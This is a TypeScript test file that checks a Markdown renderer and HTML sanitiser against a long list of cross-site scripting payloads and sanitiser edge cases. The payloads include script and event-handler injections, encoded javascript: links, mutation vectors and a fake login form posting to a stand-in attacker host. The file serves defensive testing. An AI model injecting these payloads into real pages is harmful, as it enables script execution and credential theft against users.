import { sanitize } from 'hast-util-sanitize';
import { toHtml } from 'hast-util-to-html';
import { describe, expect, it } from 'vitest';
import { type Element, markdownLimits, type Root } from './markdown-tree.ts';
import { renderMarkdown, safeElements } from './render-markdown.ts';

/** Hostile texts by kind, after the public cheat sheets on cross-site scripting. */
const vectors: Record<string, string[]> = {
  'script elements': [
    '<script>alert(1)</script>',
    '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
    '<scr<script>ipt>alert(1)</scr</script>ipt>',
    '<script\n>alert(1)</script\n>',
    '<<script>alert(1)//<</script>',
  ],
  'event handlers': [
    '<img src=x onerror=alert(1)>',
    '<body onload=alert(1)>',
    '<details open ontoggle=alert(1)>',
    '<a href="#" onmouseover="alert(1)">x</a>',
    '<input autofocus onfocus=alert(1)>',
    '<div onpointerenter="alert(1)" style="width:100vw">x</div>',
    '<p/onclick=alert(1)>x',
  ],
  'addresses that run': [
    '[x](javascript:alert(1))',
    '[x](JaVaScRiPt:alert(1))',
    '[x](java\tscript:alert(1))',
    '[x](<java\nscript:alert(1)>)',
    '[x](&#106;avascript:alert(1))',
    '[x](&#x6A;&#x61;vascript&colon;alert(1))',
    '[x](\u0001javascript:alert(1))',
    '[x](javascript&#58;alert(1))',
    '[x](vbscript:msgbox(1))',
    '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
    '[x](blob:https://a.example/1)',
    '[x](file:///etc/passwd)',
    '[x](%6Aavascript:alert(1))',
    '<javascript:alert(1)>',
    '<JAVASCRIPT:alert(1)>',
    '[x][y]\n\n[y]: javascript:alert(1)',
    '[x](article:javascript:alert(1))',
    '[x](term:"onclick="alert(1))',
  ],
  'addresses of other hosts': [
    '[x](//evil.example)',
    '[x](/\\evil.example)',
    '[x](\\\\evil.example)',
    '[x](http://evil.example)',
    '[x](https:evil.example)',
    '[x](https://name:secret@evil.example/)',
    '[x](ftp://evil.example)',
    '[x](mailto:a@evil.example)',
  ],
  'breaking out of attributes': [
    '[x](https://a.example/"onmouseover="alert(1))',
    '[x](https://a.example "title" onmouseover=alert(1))',
    `[x](https://a.example '"><script>alert(1)</script>')`,
    '[x](<https://a.example/"><script>alert(1)</script>>)',
    '```"><script>alert(1)</script>\ncode\n```',
    '```js" onload="alert(1)\ncode\n```',
    '1000000000. x\n',
    '# "><img src=x onerror=alert(1)>',
  ],
  'pictures and other loads': [
    '![x](https://evil.example/pixel.png)',
    '![x](javascript:alert(1))',
    '![x"onerror="alert(1)](y)',
    '![<script>alert(1)</script>](y)',
    '<img src="https://evil.example/pixel.png">',
    '<video src=x><audio src=x><source src=x>',
    '<link rel=stylesheet href=//evil.example/x.css>',
    '<style>@import "//evil.example/x.css";</style>',
    '<p style="background:url(//evil.example)">x</p>',
  ],
  'frames and plug-ins': [
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>">',
    '<object data="data:text/html,<script>alert(1)</script>">',
    '<embed src="javascript:alert(1)">',
    '<frameset onload=alert(1)>',
  ],
  'pages that change': [
    '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
    '<base href="//evil.example/">',
    '<form action="//evil.example"><input name=password><button>Sign in</button></form>',
    '<button formaction=javascript:alert(1)>x',
    '<a id=config name=config href=#>x</a><form id=document>',
    '<dialog open>x</dialog>',
  ],
  'SVG and MathML': [
    '<svg onload=alert(1)>',
    '<svg><script>alert(1)</script></svg>',
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
    '<math><maction actiontype="statusline#" xlink:href="javascript:alert(1)">x</maction></math>',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  ],
  'mutations by parsing twice': [
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<template><script>alert(1)</script></template>',
    '<textarea></textarea><img src=x onerror=alert(1)>',
    '<title><img src=x onerror=alert(1)></title>',
    '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
    '<table><td><p>`<img src=x onerror=alert(1)>`',
    '<![CDATA[<script>alert(1)</script>]]>',
    '<!--><script>alert(1)</script-->',
    '<?xml version="1.0"?><script>alert(1)</script>',
    '<!DOCTYPE html [<!ENTITY x "<script>alert(1)</script>">]>&x;',
    '&lt;script&gt;alert(1)&lt;/script&gt;',
    '&amp;lt;script&amp;gt;',
  ],
  'signs that hide': [
    '<scr\u0000ipt>alert(1)</script>',
    '＜script＞alert(1)＜/script＞',
    '<a href=\u2028javascript:alert(1)>x</a>',
    '\u202egnp.exe [x](java\u00adscript:alert(1))',
    '<img\u000csrc=x\u000conerror=alert(1)>',
    '\ufeff<script>alert(1)</script>',
  ],
  'Markdown around HTML': [
    '| <img src=x onerror=alert(1)> | b |\n| - | - |\n| <script>alert(1)</script> | [x](javascript:alert(1)) |',
    '- <script>alert(1)</script>\n\n> <img src=x onerror=alert(1)>',
    '**<svg onload=alert(1)>** `</code><script>alert(1)</script>`',
    '    </code></pre><script>alert(1)</script>',
    '[![<x>](javascript:1)](javascript:alert(1))',
    '[a<script>](https://a.example)</script>',
  ],
};

const tags =
  'h[1-6]|p|br|hr|blockquote|ul|ol|li|strong|em|code|pre|a|span|table|thead|tbody|tr|th|td';
const attributes = [
  'href="(?:/(?!/)|#|https://)[^"<>\\s]*"',
  'id="[^"<>\\s]*"',
  'start="\\d+"',
  'scope="col"',
  'class="language-[a-z]+"',
  'data-(?:article|term)="[a-z0-9-]+"',
  'rel="noopener noreferrer nofollow"',
].join('|');
const safeTag = new RegExp(`</?(?:${tags})(?: (?:${attributes}))*>`, 'g');

/** What is left of the HTML without the elements that are allowed: text, in which "<" is written out. */
const leftOf = (html: string) => html.replaceAll(safeTag, '');

describe('rendering', () => {
  describe.each(Object.entries(vectors))('%s', (_, texts) => {
    it.each(texts)('%j leaves no element and no attribute that is not allowed', (text) => {
      for (const source of [text, `Before ${text} after`, `> ${text}\n\n## ${text}`])
        expect(leftOf(renderMarkdown(source).html)).not.toContain('<');
    });
  });

  it('shows raw HTML as the text that was typed', () => {
    expect(renderMarkdown('a <b onclick=x>').html).toBe('<p>a &#x3C;b onclick=x></p>');
    expect(renderMarkdown('![A chart](https://evil.example/x.png)').html).toBe('<p>A chart</p>');
  });

  it('gives links their address, and takes it from those of no known kind', () => {
    const html = (text: string) => renderMarkdown(text).html;
    expect(html('[a](article:undo#what-has-no-undo)')).toBe(
      '<p><a href="/knowledgeBase/basic/article?article=undo#what-has-no-undo" data-article="undo">a</a></p>',
    );
    expect(html('[a](term:net-sales-amount)')).toContain(
      '<a href="/dataDictionaryV2?selected=net-sales-amount" data-term="net-sales-amount">',
    );
    expect(html('[a](note:2026-11-11-x)')).toContain(
      'href="/releaseNotes/article?note=2026-11-11-x"',
    );
    expect(html('[a](https://a.example/b)')).toContain('rel="noopener noreferrer nofollow"');
    expect(html('[a](//evil.example)')).toBe('<p><span>a</span></p>');
  });

  it('names headings, also those that are alike or have no letters', () => {
    const { headings } = renderMarkdown('## Fix *it*\n\n## Fix it\n\n### ***\n\n## ¿Qué?');
    expect(headings).toEqual([
      { id: 'fix-it', level: 2, text: 'Fix it' },
      { id: 'fix-it-1', level: 2, text: 'Fix it' },
      { id: 'section', level: 3, text: '***' },
      { id: 'qué', level: 2, text: '¿Qué?' },
    ]);
  });

  it('keeps the words of cells and items apart for the search', () => {
    expect(renderMarkdown('|a|b|\n|-|-|\n|c|d|\n\n- e\n- f**g**h').plainText).toBe('a b c d e fgh');
  });

  it('refuses texts that are too long or have too many parts, and bounds nesting', () => {
    const fill = (text: string) => text.repeat(Math.floor(markdownLimits.characters / text.length));
    expect(() => renderMarkdown(`${fill('a')}b`)).toThrow('longer than');
    expect(() => renderMarkdown(fill('**a*'))).toThrow('parts');
    for (const text of ['>', '- ', '1. ', '[', '*a ', '`', '<a ', '&'])
      expect(leftOf(renderMarkdown(fill(text)).html)).not.toContain('<');
  });
});

describe('the sanitiser alone, given a tree that no Markdown makes', () => {
  type ElementContent = Element['children'][number];
  const element = (
    tagName: string,
    properties: Element['properties'] = {},
    ...children: ElementContent[]
  ): Element => ({ type: 'element', tagName, properties, children });
  const text: ElementContent = { type: 'text', value: 'text' };
  const clean = (...children: Root['children']) =>
    toHtml(sanitize({ type: 'root', children }, safeElements));

  it.each(['script', 'style', 'template', 'noscript', 'textarea', 'title'])(
    'drops <%s> with what is in it',
    (tagName) => expect(clean(element(tagName, {}, text))).toBe(''),
  );

  it.each(['iframe', 'object', 'form', 'svg', 'math', 'input', 'base', 'meta', 'link', 'dialog'])(
    'drops <%s>',
    (tagName) => expect(clean(element(tagName, { src: 'x', onLoad: 'alert(1)' }))).toBe(''),
  );

  it.each([
    'x',
    '/x',
    '//evil.example/x',
    'https://evil.example/x',
    'data:image/png,x',
    'image:../x',
  ])('leaves a picture nothing to load from %s', (src) =>
    expect(clean(element('img', { src, srcSet: 'x 2x', onError: 'x' }))).toBe('<img>'),
  );

  it('drops every attribute beside the few that are allowed', () => {
    const properties = {
      onClick: 'x',
      style: 'x',
      id: 'x',
      name: 'x',
      className: ['x'],
      srcDoc: 'x',
    };
    expect(clean(element('p', properties, text))).toBe('<p>text</p>');
    expect(
      clean(element('code', { className: ['language-js', 'evil', 'language-A"'] }, text)),
    ).toBe('<code class="language-js">text</code>');
  });

  it.each([
    'javascript:alert(1)',
    'JAVASCRIPT:x',
    'data:text/html,x',
    'vbscript:x',
    'http://a.example',
  ])('drops the address %s', (href) =>
    expect(clean(element('a', { href }, text))).toBe('<a>text</a>'),
  );

  it('drops comments, raw nodes and doctypes', () => {
    const raw = { type: 'raw', value: '<script>alert(1)</script>' } as unknown as ElementContent;
    expect(clean({ type: 'comment', value: '><script>' }, { type: 'doctype' }, raw)).toBe('');
  });
});
